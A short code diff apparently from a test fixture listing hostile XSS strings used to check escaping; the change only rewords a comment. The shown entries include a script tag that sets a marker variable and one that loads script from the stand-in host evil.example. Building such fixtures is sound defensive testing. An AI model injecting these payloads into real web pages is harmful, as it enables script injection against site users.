@@ -1,6 +1,6 @@
 const OWN = "window.__owned=1";
 
-/** 60 texts that would run, load, leave or rewrite something where they were obeyed. */
+/** 60 texts that would run, load, navigate to or rewrite something if they were not escaped. */
 export const HOSTILE_TEXTS: readonly string[] = [
   `<script>${OWN}</script>`,
   `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
